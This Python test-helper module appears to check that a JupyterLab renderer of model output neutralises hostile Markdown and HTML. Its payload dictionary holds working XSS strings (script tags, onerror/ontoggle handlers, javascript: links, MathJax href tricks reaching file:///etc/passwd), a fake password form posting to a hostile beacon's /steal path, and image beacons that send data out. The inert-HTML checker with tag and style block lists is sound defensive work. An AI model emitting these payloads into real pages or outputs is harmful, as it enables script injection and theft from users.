"""What an attacker who controls a model's answer, thinking, model name or error text would send,
and a parser-based check that a published HTML bundle holds none of it live.

Every payload that could run sets `window.__pwned`; every image points at the hostile server's
/beacon path, so a browser test can ask the server whether anything was fetched.
"""
from __future__ import annotations

import re
from html.parser import HTMLParser

MARKER = "__pwned"
RUN = f"window.{MARKER}=1"


def payload_families(beacon_url: str) -> dict[str, str]:
    """name -> Markdown an attacker could make a model write. `beacon_url` is the hostile server."""
    long_line = "A" * 30_000
    return {
        "script": f"<script>{RUN}</script>",
        "event handler": f'<img src=x onerror="{RUN}"> <b onmouseover="{RUN}">hover</b>',
        "iframe": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
        "details ontoggle": f'<details open ontoggle="{RUN}"><summary>s</summary>x</details>',
        "svg onload": f'<svg onload="{RUN}"><circle r="5"/></svg>',
        "style": "<style>.jp-Cell-inputWrapper{display:none!important}</style>",
        "form and input": (f'<form action="{beacon_url}/steal"><input type="password" name="p">'
                           "<button>Sign in</button></form>"),
        "javascript link": f"[click me](javascript:{RUN}) <javascript:{RUN}> [ref][r]\n\n[r]: javascript:{RUN}",
        "data link": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "remote image": f"![exfil]({beacon_url}/beacon.png?q=secret) [![in a link]({beacon_url}/beacon2.png)](https://example.com)",
        "data image": "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
        "broken fence": f"```html\n<script>{RUN}</script>\n",
        "fence info": f'```python" onmouseover="{RUN}\nprint(1)\n```',
        "entities": (f"&lt;script&gt;{RUN}&lt;/script&gt; &#x3C;img src=x onerror={RUN}&#x3E; "
                     f"[ent](&#106;avascript:{RUN}) [tab](java\tscript:{RUN})"),
        "raw anchor": f'<a href="javascript:{RUN}">raw</a> <a href="{beacon_url}/raw">raw2</a>',
        # JupyterLab typesets HTML outputs with MathJax, whose safe mode blocks javascript: but keeps
        # file: and relative links: every output of ours is marked for MathJax to skip
        "math href": (f"$\\href{{javascript:{RUN}}}{{math link}}$ $\\href{{file:///etc/passwd}}{{file link}}$ "
                      "$\\href{/api/contents}{relative link}$ $\\mmlToken{mi}[href=/lab/tree]{token link}$"),
        "very long line": long_line + "\n\n`" + "B" * 30_000 + "`\n\n```\n" + "C" * 30_000 + "\n```",
    }


def hostile_answer(beacon_url: str) -> str:
    """Every family in one answer (headed, so a reader can tell them apart), plus legitimate
    Markdown that must survive: a heading, a list, a table, a code block, a safe link."""
    parts = [f"## {name}\n\n{text}" for name, text in payload_families(beacon_url).items() if name != "broken fence"]
    legit = ("## kept\n\n- **bold** and *emphasis*\n- [a safe link](https://example.com/page)\n\n"
             "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\ndef f():\n    return 1\n```")
    # the broken fence goes last: it swallows what follows, which must stay inert too
    return "\n\n".join(parts + [legit, payload_families(beacon_url)["broken fence"]])


HOSTILE_MODEL_NAME = f"[x](javascript:{RUN}) <img src=x onerror={RUN}> **m** $\\href{{/api/contents}}{{y}}$"
HOSTILE_ERROR = f"\x1b[31m\x1b]8;;javascript:{RUN}\x07click\x1b]8;;\x07 <script>{RUN}</script> [e](javascript:{RUN})"


def hostile_thinking(beacon_url: str) -> str:
    return f"thinking <script>{RUN}</script> ![t]({beacon_url}/beacon-thinking.png) [j](javascript:{RUN})"


# --- the check ----------------------------------------------------------------------------------
LIVE_TAGS = {"script", "iframe", "frame", "frameset", "form", "input", "button", "textarea", "select", "style",
             "link", "meta", "base", "object", "embed", "applet", "img", "image", "svg", "math", "video", "audio",
             "source", "track", "picture", "template", "portal"}
# what our renderer may produce: Markdown's tags and our own wrappers
ALLOWED_TAGS = {"div", "span", "progress", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em",
                "b", "i", "s", "del", "code", "pre", "blockquote", "a", "table", "caption", "thead", "tbody", "tr",
                "th", "td", "details", "summary", "sub"}
LIVE_SCHEMES = ("http://", "https://", "mailto:")
# the attributes our renderer writes; any other one is live or a lever: on*, src/srcset/srcdoc,
# action/formaction, http-equiv, xlink:href, id/name (DOM clobbering), and data-commandlinker-*
# (JupyterLab runs the named command when the element is clicked, in a live output)
ALLOWED_ATTRIBUTES = {"class", "style", "href", "target", "rel", "title", "start", "value", "max", "open"}
# a style may not fetch (url(), image-set(), image()), escape the output (position), run (expression,
# behavior, -moz-binding) or hide any of these behind a CSS escape (\\75 rl( is url()
UNSAFE_STYLE = re.compile(r"url\s*\(|image|expression|@import|position|behavior|binding|\\", re.IGNORECASE)
# JupyterLab typesets text/html outputs with MathJax 3, which skips a subtree of this class (and
# keeps file: and relative links from `$\\href{…}{…}$` otherwise)
NO_MATH_CLASS = "mathjax_ignore"


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.typeset: list[str] = []  # text and elements outside every NO_MATH_CLASS element
        self._skipped: list[bool] = []  # per open element: whether it or one around it is NO_MATH_CLASS

    def handle_data(self, data):
        self.text.append(data)
        if data.strip() and not (self._skipped and self._skipped[-1]):
            self.typeset.append(data[:40])

    def handle_starttag(self, tag, attrs):
        attributes = {name: value or "" for name, value in attrs}
        self.elements.append((tag, attributes))
        skipped = bool(self._skipped and self._skipped[-1]) or NO_MATH_CLASS in attributes.get("class", "").split()
        if not skipped:
            self.typeset.append(f"<{tag}>")
        if tag not in VOID_TAGS:
            self._skipped.append(skipped)

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_endtag(self, tag):
        if tag not in VOID_TAGS and self._skipped:
            self._skipped.pop()


VOID_TAGS = {"br", "hr", "img", "input", "meta", "link", "base", "source", "track", "col", "wbr", "area", "embed"}


def _parse(html: str) -> _Collector:
    parser = _Collector()
    parser.feed(html)
    parser.close()
    return parser


def elements(html: str) -> list[tuple[str, dict]]:
    return _parse(html).elements


def visible_text(html: str) -> str:
    return "".join(_parse(html).text)


def outside_math_skip(html: str) -> list[str]:
    """Text and elements that MathJax would typeset: not inside an element of class mathjax_ignore."""
    return _parse(html).typeset


def problems(html: str) -> list[str]:
    """Everything live in this HTML: tags that run, load or submit; attributes other than the ones
    our renderer writes; links other than http(s)/mailto; styles that fetch or escape the output."""
    found = []
    for tag, attrs in elements(html):
        if tag in LIVE_TAGS or tag not in ALLOWED_TAGS:
            found.append(f"<{tag}> element")
        for name, value in attrs.items():
            lowered = value.strip().lower()
            if name.startswith("on"):
                found.append(f"{name} attribute on <{tag}>")
            elif name not in ALLOWED_ATTRIBUTES:
                found.append(f"{name} attribute on <{tag}>")
            elif name == "href" and not lowered.startswith(LIVE_SCHEMES):
                found.append(f"href={value[:40]!r} on <{tag}>")
            elif name == "style" and UNSAFE_STYLE.search(value):
                found.append(f"style={value[:40]!r} on <{tag}>")
        if tag == "a" and "href" in attrs and (attrs.get("target") != "_blank" or attrs.get("rel") != "noopener noreferrer"):
            found.append(f"link {attrs['href'][:40]!r} without target=_blank rel=noopener noreferrer")
    return found


def assert_inert(bundle: dict, where: str = "") -> None:
    """A published display bundle: no Markdown for the frontend to interpret, and HTML with
    nothing live (parsed, not searched)."""
    assert "text/markdown" not in bundle, f"{where}: untrusted text published as text/markdown"
    html = bundle.get("text/html", "")
    found = problems(html)
    assert not found, f"{where}: {found[:8]}"
    typeset = outside_math_skip(html)
    assert not typeset, f"{where}: outside a {NO_MATH_CLASS} element, MathJax would typeset {typeset[:5]}"
